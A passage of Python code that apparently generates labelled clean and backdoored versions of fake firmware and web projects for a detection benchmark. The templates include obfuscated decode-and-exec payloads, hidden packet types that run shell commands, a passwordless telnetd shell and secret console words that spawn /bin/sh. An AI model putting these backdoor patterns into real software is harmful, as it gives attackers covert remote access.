    planted = s.render({"brand_tail": honest + "\n" + plant})
    note = (f"lib/branding.js decodes the hex string {var} with String.replace({rx}, parseInt(h, 16)) and runs it "
            f"with {sink}; the payload {what}.")
    return mk(clean, planted, note, {"encoding": "hex-replace", "sink": sink, "payload": kind},
              categories=_payload_cats(kind))


def ob_py_resub_hex(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    cmd, kind = shell_payload(rng)
    code = f"import os\nos.system({py(cmd + ' &')})\n"
    pat = rng.choice(["r'..'", 'r".."', "r'[0-9a-f]{2}'"])
    grp = rng.choice(["m.group(0)", "m.group()", "m[0]"])
    sink = rng.choice(["exec", "exec-compile"])
    var = "_" + rng.choice(["locale", "fonts", "hints", "glyphs", "tz"])
    banner = f"{P.Name} {P.model} - authorised access only"
    honest = (f"\n# Login banner, hex-packed by the OEM branding tool.\n"
              f"BANNER = re.sub({pat}, lambda m: chr(int({grp}, 16)), \"{banner.encode().hex()}\")")
    run = f"exec({var})" if sink == "exec" else f'exec(compile({var}, "<assets>", "exec"))'
    plant = f"{var} = re.sub({pat}, lambda m: chr(int({grp}, 16)), \"{code.encode().hex()}\")\n{run}"
    clean = s.render({"assets_imports": "import re", "assets_tail": honest})
    planted = s.render({"assets_imports": "import re", "assets_tail": honest + "\n" + plant})
    note = (f"app/assets.py (imported by create_app) decodes {var} with re.sub({pat}, chr(int(.., 16))) and "
            f"runs it with {sink}: the payload runs '{cmd}'.")
    return mk(clean, planted, note, {"encoding": "hex-re.sub", "sink": sink, "payload": kind, "framework": "flask"},
              categories=_payload_cats(kind))


def _c_table(name: str, data: bytes) -> str:
    rows = [", ".join(f"0x{b:02x}" for b in data[i:i + 12]) for i in range(0, len(data), 12)]
    return f"static const unsigned char {name}[{len(data)}] = {{\n    " + ",\n    ".join(rows) + "\n};"


def ob_c_index_key(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    data = cmd.encode()
    form = rng.choice(["minus-index", "xor-key-index", "add-mul-index"])
    tab = rng.choice(["oem_tab", "cal_data", "region_blob", "fw_tbl", "lut"])
    keyv = ""
    if form == "minus-index":
        enc = bytes((b + i) & 0xff for i, b in enumerate(data))
        expr = f"buf[i] = (char)({tab}[i] - i);"
    elif form == "xor-key-index":
        key = bytes(rng.randrange(1, 256) for _ in range(rng.choice([4, 6, 8])))
        enc = bytes(b ^ key[i % len(key)] ^ (i & 0xff) for i, b in enumerate(data))
        keyv = _c_table(f"{tab}_key", key) + "\n"
        expr = f"buf[i] = (char)({tab}[i] ^ {tab}_key[i % sizeof({tab}_key)] ^ (i & 0xff));"
    else:
        k = rng.choice([3, 5, 7, 11, 13])
        enc = bytes((b - k * i) & 0xff for i, b in enumerate(data))
        expr = f"buf[i] = (char)(({tab}[i] + {k} * i) & 0xff);"
    sink = rng.choice(["system", "popen"])
    run = "system(buf);" if sink == "system" else 'FILE *p = popen(buf, "r");\n\nif (p != NULL)\n    pclose(p);'
    fn = rng.choice(["board_fixup", "apply_region", "load_cal", "oem_init"])
    banner = f"{P.Vendor} {P.model}".encode()
    bk = rng.randrange(1, 256)
    honest = block(f"""
        /* OEM banner, scrambled by the branding tool (byte ^ key ^ index). */
        static const unsigned char oem_banner[{len(banner)}] = {{
            {", ".join(f"0x{b ^ bk ^ (i & 0xff):02x}" for i, b in enumerate(banner))}
        }};

        static void log_banner(void)
        {{
            char txt[sizeof(oem_banner) + 1];
            size_t i;

            for (i = 0; i < sizeof(oem_banner); i++)
                txt[i] = (char)(oem_banner[i] ^ 0x{bk:02x} ^ (i & 0xff));
            txt[i] = '\\0';
            log_msg("%s", txt);
        }}""")
    plant = block(f"""
        {nest(keyv + _c_table(tab, enc), 8)}

        static void {fn}(void)
        {{
            char buf[sizeof({tab}) + 1];
            size_t i;

            for (i = 0; i < sizeof({tab}); i++)
                {expr}
            buf[i] = '\\0';
            {nest(run, 12)}
        }}""")
    clean = s.render({"upd_globals": honest + "\n", "upd_pre": "log_banner();"})
    planted = s.render({"upd_globals": honest + "\n\n" + plant + "\n", "upd_pre": f"log_banner();\n{fn}();"})
    note = (f"src/update.c: {fn}() decodes the constant table {tab} with an index-dependent key ({form}) and "
            f"passes the result to {sink}() at every update check: '{cmd}'.")
    return mk(clean, planted, note, {"encoding": form, "sink": sink, "payload": kind, "build": s.build},
              categories=_payload_cats(kind))


def _stack_words(rng: random.Random, data: bytes, buf: str, t8: str, t4: str, t2: str) -> list[str]:
    out, i = [], 0
    while i < len(data):
        left = len(data) - i
        size = 8 if left >= 8 and rng.random() < 0.85 else 4 if left >= 4 and rng.random() < 0.3 else \
            2 if left >= 2 else 1
        chunk = data[i:i + size]
        v = int.from_bytes(chunk, "little")
        if size == 1:
            out.append(f"{buf}[{i}] = 0x{v:02x};")
        else:
            t = {8: t8, 4: t4, 2: t2}[size]
            where = buf if i == 0 and rng.random() < 0.5 else f"({buf} + {i})"
            out.append(f"*({t} *){where} = 0x{v:0{size * 2}x};")
        i += size
    return out


def ob_c_stack_words(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    style = rng.choice(["ghidra", "stdint"])
    if style == "ghidra":
        types = ("undefined8", "undefined4", "undefined2")
        tdefs = ("typedef unsigned long long undefined8;\ntypedef unsigned int undefined4;\n"
                 "typedef unsigned short undefined2;\n")
        buf = rng.choice(["local_58", "local_68", "acStack_48", "local_88"])
    else:
        types = ("uint64_t", "uint32_t", "uint16_t")
        tdefs = ""
        buf = rng.choice(["buf", "tmp", "cmdline", "scratch"])
    pidp = f"/var/run/{s.prog}.pid"
    fn_h = f"FUN_0040{rng.randrange(0x1000, 0xffff):04x}"
    fn_p = f"FUN_0041{rng.randrange(0x1000, 0xffff):04x}"

    def func(name: str, text: str, tail: str) -> str:
        data = text.encode() + b"\0"
        size = (len(data) + 7) & ~7
        lines = "\n".join(_stack_words(rng, data, buf, *types))
        return block(f"""
            static void {name}(void)
            {{
              char {buf} [{size}];

              {nest(lines, 14)}
              {tail}
              return;
            }}""")
    honest = ("/* recovered helpers (decompiled from the vendor binary, little-endian) */\n" + tdefs + "\n"
              + func(fn_h, pidp, f"unlink({buf});"))
    plant = func(fn_p, cmd, f"system({buf});")
    inc = "#include <stdint.h>" if style == "stdint" else ""
    clean = s.render({"upd_includes": inc, "upd_globals": honest + "\n", "upd_pre": f"{fn_h}();"})
    planted = s.render({"upd_includes": inc, "upd_globals": honest + "\n\n" + plant + "\n",
                        "upd_pre": f"{fn_h}();\n{fn_p}();"})
    note = (f"src/update.c: {fn_p}() builds a command on the stack from 8/4/2-byte little-endian words stored "
            f"through cast pointers ({style}) and passes it to system() at every update check: '{cmd}'.")
    return mk(clean, planted, note, {"encoding": f"stack-words-{style}", "sink": "system", "payload": kind,
                                     "style": "decompiled", "build": s.build},
              categories=_payload_cats(kind))


def _perl_dq(s: str) -> str:
    out = []
    for c in s:
        if c in '\\"$@':
            out.append("\\" + c)
        elif c == "\n":
            out.append("\\n")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


def ob_perl_pack_map(rng: random.Random, P: Proj) -> Variant:
    s = PerlCgi(rng, P)
    cmd, kind = shell_payload(rng)
    code = f"system({_perl_dq(cmd + ' &')});"
    form = rng.choice(["pack-H", "map-ord"])
    motd = f"{P.Name} {P.model} diagnostics"
    if form == "pack-H":
        honest = f'our $MOTD = pack("H*", "{motd.encode().hex()}");'
        plant = f'eval pack("H*", "{code.encode().hex()}");'
    else:
        k = rng.choice([1, 1, 2, 3])
        shift = lambda t: "".join(chr(ord(c) + k) for c in t)  # noqa: E731
        honest = f'our $MOTD = join "", map {{ chr(ord($_) - {k}) }} split //, {_perl_dq(shift(motd))};'
        plant = f'eval join "", map {{ chr(ord($_) - {k}) }} split //, {_perl_dq(shift(code))};'
    clean = s.render({"diag_tail": "\n" + honest})
    planted = s.render({"diag_tail": "\n" + honest + "\n" + plant})
    note = (f"lib/{s.mod}/Diag.pm evaluates a {form}-encoded Perl statement at load time (eval of the decoded "
            f"string); the payload runs '{cmd}'.")
    return mk(clean, planted, note, {"encoding": form, "sink": "eval", "payload": kind, "framework": "cgi"},
              categories=_payload_cats(kind))


# ============================================================================ hidden command: C packet handler

FRAME_H = r"""
@lic@
#ifndef @G@_FRAME_H
#define @G@_FRAME_H

#include <stddef.h>
#include <stdint.h>

#define FRAME_MAGIC   0x@magic@
#define FRAME_HDR     8
#define FRAME_MAX     1472

/* Message types of the @Name@ lighting-control protocol (see README.md). */
enum {
    MSG_HELLO     = 0x01,
    MSG_STATUS    = 0x02,
    MSG_SET_LEVEL = 0x10,
    MSG_SET_SCENE = 0x11,
    MSG_IDENTIFY  = 0x20
};

struct frame_hdr {
    uint16_t magic;
    uint8_t  type;
    uint8_t  flags;
    uint16_t seq;
    uint16_t len;
} __attribute__((packed));

/* @fsrc@.c */
int @handler@(const uint8_t *pkt, size_t n, uint8_t *reply, size_t cap);

/* @rxsrc@.c */
int rx_open(int port);
void rx_loop(int fd);

/* leds.c */
int led_set(unsigned ch, unsigned level);
int led_scene(unsigned scene);
void led_identify(unsigned seconds);
unsigned led_count(void);

#endif
"""

FRAME_C = r"""
@lic@
/* Decoding and dispatch of one protocol frame. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
@includes@

#include "frame.h"
@globals@

static int put_reply(uint8_t *reply, size_t cap, uint8_t type, uint16_t seq, const void *body, size_t blen)
{
    struct frame_hdr h;

    if (cap < FRAME_HDR + blen)
        return -1;
    h.magic = htons(FRAME_MAGIC);
    h.type = (uint8_t)(type | 0x80);
    h.flags = 0;
    h.seq = seq;
    h.len = htons((uint16_t)blen);
    memcpy(reply, &h, FRAME_HDR);
    if (blen)
        memcpy(reply + FRAME_HDR, body, blen);
    return (int)(FRAME_HDR + blen);
}

int @handler@(const uint8_t *pkt, size_t n, uint8_t *reply, size_t cap)
{
    struct frame_hdr h;
    const uint8_t *body;
    size_t blen;
    char txt[64];

    if (n < FRAME_HDR)
        return -1;
    memcpy(&h, pkt, FRAME_HDR);
    if (ntohs(h.magic) != FRAME_MAGIC)
        return -1;
    blen = ntohs(h.len);
    if (blen > n - FRAME_HDR)
        return -1;
    body = pkt + FRAME_HDR;
    @pre@
    switch (h.type) {
    case MSG_HELLO:
        snprintf(txt, sizeof(txt), "@Name@ @model@ @version@ ch=%u", led_count());
        return put_reply(reply, cap, h.type, h.seq, txt, strlen(txt));
    case MSG_STATUS:
        return put_reply(reply, cap, h.type, h.seq, NULL, 0);
    case MSG_SET_LEVEL:
        if (blen < 2 || led_set(body[0], body[1]) != 0)
            return -1;
        return put_reply(reply, cap, h.type, h.seq, NULL, 0);
    case MSG_SET_SCENE:
        if (blen < 1 || led_scene(body[0]) != 0)
            return -1;
        return put_reply(reply, cap, h.type, h.seq, NULL, 0);
    case MSG_IDENTIFY:
        led_identify(blen ? body[0] : 5);
        return put_reply(reply, cap, h.type, h.seq, NULL, 0);
    @cases@
    default:
        return -1;
    }
}
"""

RX_UDP_C = r"""
@lic@
/* UDP receive loop: one datagram is one frame. */
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "frame.h"

int rx_open(int port)
{
    struct sockaddr_in a;
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    if (s < 0)
        return -1;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
        close(s);
        return -1;
    }
    return s;
}

void rx_loop(int fd)
{
    uint8_t buf[FRAME_MAX], reply[256];
    struct sockaddr_in peer;
    socklen_t plen;
    ssize_t n;
    int r;

    for (;;) {
        plen = sizeof(peer);
        n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&peer, &plen);
        if (n <= 0)
            continue;
        r = @handler@(buf, (size_t)n, reply, sizeof(reply));
        if (r > 0)
            sendto(fd, reply, (size_t)r, 0, (struct sockaddr *)&peer, plen);
    }
}
"""

RX_TCP_C = r"""
@lic@
/* TCP receive loop: each controller connection sends frames back to back. */
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "frame.h"

int rx_open(int port)
{
    struct sockaddr_in a;
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;

    if (s < 0)
        return -1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0) {
        close(s);
        return -1;
    }
    return s;
}

static int read_full(int fd, uint8_t *p, size_t len)
{
    size_t got = 0;
    ssize_t r;

    while (got < len) {
        r = recv(fd, p + got, len - got, 0);
        if (r <= 0)
            return -1;
        got += (size_t)r;
    }
    return 0;
}

void rx_loop(int fd)
{
    uint8_t buf[FRAME_MAX], reply[256];
    struct frame_hdr h;
    size_t n;
    int c, r;

    for (;;) {
        c = accept(fd, NULL, NULL);
        if (c < 0)
            continue;
        while (read_full(c, buf, FRAME_HDR) == 0) {
            memcpy(&h, buf, FRAME_HDR);
            n = FRAME_HDR + ntohs(h.len);
            if (n > sizeof(buf) || read_full(c, buf + FRAME_HDR, n - FRAME_HDR) != 0)
                break;
            r = @handler@(buf, n, reply, sizeof(reply));
            if (r > 0 && send(c, reply, (size_t)r, 0) < 0)
                break;
        }
        close(c);
    }
}
"""

LEDS_C = r"""
@lic@
/* PWM channels through the kernel LED class (/sys/class/leds/ch<N>/brightness). */
#include <stdio.h>
#include <unistd.h>

#include "frame.h"

#define CHANNELS @channels@

int led_set(unsigned ch, unsigned level)
{
    char path[64];
    FILE *fp;

    if (ch >= CHANNELS)
        return -1;
    snprintf(path, sizeof(path), "/sys/class/leds/ch%u/brightness", ch);
    fp = fopen(path, "w");
    if (fp == NULL)
        return -1;
    fprintf(fp, "%u\n", level);
    fclose(fp);
    return 0;
}

int led_scene(unsigned scene)
{
    unsigned ch;

    if (scene > 7)
        return -1;
    for (ch = 0; ch < CHANNELS; ch++)
        led_set(ch, scene == 0 ? 0 : (255u * (ch + scene)) / (CHANNELS + 7));
    return 0;
}

void led_identify(unsigned seconds)
{
    unsigned i;

    for (i = 0; i < seconds * 2 && i < 60; i++) {
        led_set(0, (i & 1) ? 0 : 255);
        usleep(500000);
    }
}

unsigned led_count(void)
{
    return CHANNELS;
}
"""

FRAME_MAIN_C = r"""
@lic@
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>

#include "frame.h"

int main(int argc, char **argv)
{
    int fd, port = @port@;

    if (argc > 2 && strcmp(argv[1], "-p") == 0)
        port = atoi(argv[2]);
    signal(SIGCHLD, SIG_IGN);
    fd = rx_open(port);
    if (fd < 0) {
        perror("@prog@: socket");
        return 1;
    }
    rx_loop(fd);
    return 0;
}
"""

FRAME_MAKEFILE = r"""
CC     ?= gcc
CFLAGS ?= -Os -Wall
CFLAGS += -Iinclude

OBJS = src/main.o src/@rxsrc@.o src/@fsrc@.o src/leds.o

@prog@: $(OBJS)
	$(CC) $(LDFLAGS) -o $@ $(OBJS)

install: @prog@
	install -D -m 0755 @prog@ $(DESTDIR)/usr/sbin/@prog@

clean:
	rm -f $(OBJS) @prog@
"""

FRAME_README = r"""
# @prog@ - lighting control daemon

Runs on the @Vendor@ @Name@ @model@ dimmer. Wall panels and the app talk to it on @proto@ port @port@.

Frame: `magic (0x@magic@) | type | flags | seq | len` (8 bytes, network order) then `len` body bytes.

| type | body | meaning |
|---|---|---|
| 0x01 HELLO | - | model and firmware version |
| 0x02 STATUS | - | keep-alive |
| 0x10 SET_LEVEL | channel, level | dim one channel |
| 0x11 SET_SCENE | scene 0-7 | recall a scene |
| 0x20 IDENTIFY | seconds | blink channel 0 |

Replies carry the request type with bit 7 set.
"""


def _frame_tree(P: Proj, kw: dict, transport: str, pre: str, cases: str, includes: str, glob: str) -> dict:
    k = dict(kw, pre=pre, cases=cases, includes=includes, globals=glob)
    return {"include/frame.h": fill(FRAME_H, **k), f"src/{kw['fsrc']}.c": fill(FRAME_C, **k),
            f"src/{kw['rxsrc']}.c": fill(RX_UDP_C if transport == "udp" else RX_TCP_C, **k), "src/leds.c": fill(LEDS_C, **k),
            "src/main.c": fill(FRAME_MAIN_C, **k), "Makefile": fill(FRAME_MAKEFILE, **k),
            "README.md": fill(FRAME_README, **k)}


def _frame_common(rng: random.Random, P: Proj) -> tuple[dict, str, str]:
    handler = rng.choice(["handle_frame", "proto_dispatch", "on_packet", "process_msg", "frame_input",
                          ident(rng, 2)])
    transport = rng.choice(["udp", "tcp"])
    prog = rng.choice(["lightd", f"{P.ident}-dimd", "ctrld", f"{P.ident}d"])
    kw = dict(lic=license_header(P, "c"), G=P.IDENT, magic=f"{rng.randrange(0x1000, 0xffff):04X}", Name=P.Name,
              model=P.model, version=P.version, handler=handler, channels=rng.choice([2, 4, 6, 8]),
              port=rng.choice([4210, 5568, 6454, 9760, 38899]), prog=prog, Vendor=P.Vendor,
              proto=transport.upper(), fsrc=rng.choice(["frame", "proto", "msg", "dispatch"]),
              rxsrc=rng.choice(["rx", "net", "io", "server"]))
    return kw, transport, handler


def _frame_guard(rng: random.Random, decls: str, effect: str, uses_body: bool) -> tuple[str, str, str, str]:
    """(pre, cases, globals, guard description) for a hidden type or magic body running `effect`.

    `decls` are the C declarations the effect needs; `effect` may use `body`/`blen` (a command built
    from the packet)."""
    t = rng.choice([0x5a, 0x66, 0x7e, 0xa5, 0xe1, 0x3c, 0x99])
    form = rng.choice(["type-eq", "memcmp-body", "switch-case", "tlv-continue", "helper-return"])
    magic = word(rng, (2, 3)) + str(rng.randint(10, 99))
    fn = rng.choice(["svc_frame", "factory_op", "mfg_hook", ident(rng, 2)])
    dl = (decls + "\n\n") if decls else ""
    if form == "type-eq":
        pre = f"if (h.type == 0x{t:02x}) {{\n    {nest(dl + effect, 4)}\n    return put_reply(reply, cap, h.type, h.seq, NULL, 0);\n}}"
        return pre, "", "", f"message type 0x{t:02x} (==)"
    if form == "switch-case":
        cases = f"case 0x{t:02x}: {{\n    {nest(dl + effect, 4)}\n    return put_reply(reply, cap, h.type, h.seq, NULL, 0);\n}}"
        return "", cases, "", f"message type 0x{t:02x} (switch case)"
    ml = len(magic)
    eff = effect.replace("body", "arg").replace("blen", "alen") if uses_body else effect

    def decl_lines(ind: int) -> str:
        return "".join("\n" + " " * ind + ln for ln in decls.split("\n")) if decls else ""
    if form == "memcmp-body":
        if uses_body:
            head = (f"    const uint8_t *arg = body + {ml};\n    size_t alen = blen - {ml};{decl_lines(4)}\n\n")
        else:
            head = ""
        pre = (f"if (h.type == MSG_IDENTIFY && blen > {ml} && memcmp(body, {c_string(magic)}, {ml}) == 0) {{\n"
               f"{head}    {nest(eff, 4)}\n    return put_reply(reply, cap, h.type, h.seq, NULL, 0);\n}}")
        return pre, "", "", f"an IDENTIFY frame whose body starts with {magic!r} (memcmp)"
    if form == "tlv-continue":
        if uses_body:
            head = f"        const uint8_t *arg;\n        size_t alen;{decl_lines(8)}\n\n"
            take = "        arg = body + off + 2;\n        alen = tl;\n"
        else:
            head, take = "", ""
        pre = (f"if (h.flags & 0x01) {{\n    size_t off, tl;\n\n"
               f"    for (off = 0; off + 2 <= blen; off += 2 + tl) {{\n{head}"
               f"        tl = body[off + 1];\n        if (body[off] != 0x{t:02x} || off + 2 + tl > blen)\n            continue;\n"
               f"{take}        {nest(eff, 8)}\n    }}\n}}")
        return pre, "", "", f"an option of tag 0x{t:02x} in a frame with flag 0x01 (negative guard, continue)"
    if uses_body:
        sig = "const uint8_t *arg, size_t alen"
        skip = f"\n    arg += {ml};\n    alen -= {ml};"
    else:
        sig = "const uint8_t *arg, size_t alen"
        skip = ""
    glob = (f"static int {fn}({sig})\n{{{decl_lines(4)}{chr(10) if decls else ''}\n"
            f"    if (alen < {ml} || memcmp(arg, {c_string(magic)}, {ml}) != 0)\n        return -1;{skip}\n"
            f"    {nest(eff, 4)}\n    return 0;\n}}")
    cases = f"case 0x{t:02x}:\n    if ({fn}(body, blen) != 0)\n        return -1;\n    return put_reply(reply, cap, h.type, h.seq, NULL, 0);"
    return "", cases, "\n" + glob + "\n", f"message type 0x{t:02x} whose body starts with {magic!r}, checked in {fn}: negative guard with return"


def hc_c_frame_command(rng: random.Random, P: Proj) -> Variant:
    kw, transport, handler = _frame_common(rng, P)
    sink = rng.choice(["system", "popen", "execl-sh"])
    if sink == "system":
        decls, eff = "char cmd[256];", "snprintf(cmd, sizeof(cmd), \"%.*s\", (int)blen, (const char *)body);\nsystem(cmd);"
    elif sink == "popen":
        decls = "char cmd[256];\nFILE *p;"
        eff = ("if (blen >= sizeof(cmd))\n    blen = sizeof(cmd) - 1;\nmemcpy(cmd, body, blen);\n"
               "cmd[blen] = '\\0';\np = popen(cmd, \"r\");\nif (p != NULL)\n    pclose(p);")
    else:
        decls = "char cmd[256];"
        eff = ("snprintf(cmd, sizeof(cmd), \"%.*s\", (int)blen, (const char *)body);\n"
               "if (fork() == 0) {\n    execl(\"/bin/sh\", \"sh\", \"-c\", cmd, (char *)NULL);\n    _exit(127);\n}")
    pre, cases, glob, desc = _frame_guard(rng, decls, eff, True)
    clean = _frame_tree(P, kw, transport, "", "", "", "")
    planted = _frame_tree(P, kw, transport, pre, cases, "", glob)
    note = (f"src/{kw['fsrc']}.c: {handler}() (called from the {transport.upper()} receive loop in src/{kw['rxsrc']}.c with the "
            f"received buffer) runs the frame body as a shell command ({sink}) for {desc}; undocumented.")
    return mk(clean, planted, note, {"trigger": "packet", "transport": transport, "sink": sink,
                                     "guard": desc.split("(")[-1].split(": ")[-1].rstrip(")")})


def hc_c_frame_daemon(rng: random.Random, P: Proj) -> Variant:
    kw, transport, handler = _frame_common(rng, P)
    p = port(rng)
    daemon = rng.choice(["telnetd", "telnetd-busybox", "dropbear", "utelnetd"])
    if daemon == "telnetd":
        eff = f'system("telnetd -l /bin/sh -p {p} &");'
    elif daemon == "telnetd-busybox":
        eff = f'system("/bin/busybox telnetd -l /bin/sh -p {p}");'
    elif daemon == "utelnetd":
        eff = f'if (fork() == 0) {{\n    execl("/usr/sbin/utelnetd", "utelnetd", "-p", "{p}", "-l", "/bin/sh", (char *)NULL);\n    _exit(127);\n}}'
    else:
        eff = (f'if (fork() == 0) {{\n    execl("/usr/sbin/dropbear", "dropbear", "-B", "-F", "-p", "{p}", (char *)NULL);\n'
               '    _exit(127);\n}')
    pre, cases, glob, desc = _frame_guard(rng, "", eff, False)
    clean = _frame_tree(P, kw, transport, "", "", "", "")
    planted = _frame_tree(P, kw, transport, pre, cases, "", glob)
    note = (f"src/{kw['fsrc']}.c: {handler}() (called from the {transport.upper()} receive loop in src/{kw['rxsrc']}.c) starts "
            f"{daemon} on port {p} (login shell without a password) for {desc}; undocumented.")
    return mk(clean, planted, note, {"trigger": "packet", "transport": transport, "sink": daemon,
                                     "guard": desc.split("(")[-1].split(": ")[-1].rstrip(")")}, categories=["remote-access"])


# ============================================================================ hidden command: console dot-commands

def _dot_word(rng: random.Random) -> str:
    return rng.choice([".", "!", "."]) + rng.choice(["dbgsh", "xq", "sh", "mfg", "diag", word(rng, (1, 2))]) + \
        rng.choice(["", "", str(rng.randint(1, 9))])


def hc_c_dot_command(rng: random.Random, P: Proj) -> Variant:
    s = CClid(rng, P)
    w = _dot_word(rng)
    form = rng.choice(["strcmp-eq", "do-while-negative", "strcmp-not"])
    shell = rng.choice(['execl("/bin/sh", "sh", "-i", (char *)NULL);', 'execl("/bin/sh", "sh", (char *)NULL);',
                        'execl("/bin/busybox", "sh", (char *)NULL);'])
    dup = "dup2(fd, 0);\ndup2(fd, 1);\ndup2(fd, 2);"
    honest = block("""
        if (strcmp(g_line, "!!") == 0)
            snprintf(g_line, sizeof(g_line), "%s", g_last);
        else if (g_line[0] != '\\0')
            snprintf(g_last, sizeof(g_last), "%s", g_line);""")
    if form == "strcmp-eq":
        plant = f"if (strcmp(g_line, {c_string(w)}) == 0) {{\n    {nest(dup, 4)}\n    {shell}\n}}"
    elif form == "strcmp-not":
        plant = f"if (!strcmp(g_line, {c_string(w)})) {{\n    {nest(dup, 4)}\n    {shell}\n}}"
    else:
        plant = f"do {{\n    if (strcmp(g_line, {c_string(w)}) != 0)\n        break;\n    {nest(dup, 4)}\n    {shell}\n}} while (0);"
    glob = "static char g_last[CLI_MAXLINE];"
    clean = s.render({"cli_globals": glob, "cli_loop_pre": honest})
    planted = s.render({"cli_globals": glob, "cli_loop_pre": plant + "\n" + honest})
    note = (f"src/cli.c: cli_session() compares the whole input line with the undocumented console command "
            f"{w!r} ({form}) and replaces the session with a shell on the connection.")
    return mk(clean, planted, note, {"trigger": "console-command", "form": form, "word": w[0]})


PY_CONSOLE = r'''
# @lic@
"""Serial/telnet maintenance console of the @Name@ @model@ (started by getty on ttyS0)."""
import os
import shlex
import subprocess
import sys
@imports@

PROMPT = "@prompt@> "


def cmd_help(args):
    for name, (_, text) in sorted(COMMANDS.items()):
        print(f"  {name:<12} {text}")


def cmd_version(args):
    print("@Name@ @model@ firmware @version@")


def cmd_ping(args):
    if len(args) != 1:
        print("usage: ping HOST")
        return
    subprocess.run(["ping", "-c", "3", args[0]], check=False)


def cmd_ifconfig(args):
    subprocess.run(["ip", "-brief", "address"], check=False)


def cmd_reboot(args):
    subprocess.run(["/sbin/reboot"], check=False)


COMMANDS = {
    ".help": (cmd_help, "list commands"),
    ".version": (cmd_version, "firmware version"),
    "ping": (cmd_ping, "ping a host"),
    "ifconfig": (cmd_ifconfig, "interface addresses"),
    "reboot": (cmd_reboot, "restart the device"),
}


def main():
    while True:
        try:
            line = input(PROMPT).strip()
        except EOFError:
            return 0
        if not line:
            continue
        if line in (".quit", ".exit"):
            return 0
        @pre@
        words = shlex.split(line)
        entry = COMMANDS.get(words[0])
        if entry is None:
            print(f"unknown command {words[0]!r}, try .help")
            continue
        entry[0](words[1:])


if __name__ == "__main__":
    sys.exit(main())
'''

PY_CONSOLE_TEST = r'''
from @pkg@ import console


def test_commands_documented():
    assert all(text for _, text in console.COMMANDS.values())
    assert ".help" in console.COMMANDS
'''

PY_CONSOLE_README = r'''
# @pkg@

Maintenance console of the @Vendor@ @Name@ @model@, on the serial port (getty runs it after login).

Commands: `.help`, `.version`, `ping HOST`, `ifconfig`, `reboot`, `.quit`.
'''


def hc_py_dot_command(rng: random.Random, P: Proj) -> Variant:
    w = _dot_word(rng)
    pkg = f"{P.ident}_console"
    form = rng.choice(["execv", "pty", "call"])
    run = {"execv": 'os.execv("/bin/sh", ["sh", "-i"])', "pty": 'pty.spawn("/bin/sh")',
           "call": 'subprocess.call(["/bin/sh", "-l"])\ncontinue'}[form]
    cmp = rng.choice(["==", "in"])
    test = f"line == {py(w)}" if cmp == "==" else f"line in ({py(w)},)"
    plant = f"if {test}:\n    {nest(run, 4)}"
    kw = dict(lic=license_header(P, "x"), Name=P.Name, model=P.model, version=P.version,
              prompt=rng.choice([P.model, P.ident]), pkg=pkg, Vendor=P.Vendor)

    def tree(pre: str, imports: str) -> dict:
        k = dict(kw, pre=pre, imports=imports)
        return {f"{pkg}/__init__.py": "", f"{pkg}/console.py": fill(PY_CONSOLE, **k),
                "tests/test_console.py": fill(PY_CONSOLE_TEST, **k), "README.md": fill(PY_CONSOLE_README, **k),
                "pyproject.toml": f'[project]\nname = "{pkg}"\nversion = "{P.version}"\nrequires-python = ">=3.8"\n\n'
                                  f'[project.scripts]\n{P.ident}-console = "{pkg}.console:main"\n'}
    clean = tree("", "")
    planted = tree(plant, "import pty" if form == "pty" else "")
    note = (f"{pkg}/console.py: main() compares the whole input line with the undocumented command {w!r} "
            f"({cmp}), not in COMMANDS, and gives a shell ({form}).")
    return mk(clean, planted, note, {"trigger": "console-command", "form": form, "word": w[0]})


def hc_go_dot_command(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    w = _dot_word(rng)
    form = rng.choice(["case", "if-before-switch"])
    shell = rng.choice(['"/bin/sh", "-i"', '"/bin/sh"', '"/bin/busybox", "sh"'])
    base = s.render()
    path = "internal/sshd/sshd.go"
    src = base[path]
    honest_case = ('\t\tcase "help", "?":\n\t\t\tfmt.Fprint(ch, "show version | show interfaces | exit\\r\\n")\n'
                   '\t\tcase "exit", "quit":')
    assert '\t\tcase "exit", "quit":' in src
    clean_src = src.replace('\t\tcase "exit", "quit":', honest_case)
    run = (f"\t\t\tsh := exec.Command({shell})\n\t\t\tsh.Stdin, sh.Stdout, sh.Stderr = ch, ch, ch\n\t\t\t_ = sh.Run()\n")
    if form == "case":
        planted_src = clean_src.replace('\t\tcase "help", "?":', f'\t\tcase {gq(w)}:\n{run}\t\tcase "help", "?":')
    else:
        anchor = "\tfor in.Scan() {\n"
        assert anchor in clean_src
        planted_src = clean_src.replace(anchor, anchor + f"\t\tif strings.TrimSpace(in.Text()) == {gq(w)} {{\n"
                                        + run + "\t\t\tcontinue\n\t\t}\n")
    assert '\t"os"\n' in planted_src
    planted_src = planted_src.replace('\t"os"\n', '\t"os"\n\t"os/exec"\n', 1)
    clean = dict(base)
    clean[path] = clean_src
    planted = dict(base)
    planted[path] = planted_src
    note = (f"{path}: cli() compares the whole line with the undocumented command {w!r} ({form}) and runs "
            f"{shell} with the SSH channel as its standard streams: a shell from the restricted CLI.")
    return mk(clean, planted, note, {"trigger": "console-command", "form": form, "word": w[0]})


# ============================================================================ hidden command: constant-time header

def _const_name(rng: random.Random) -> str:
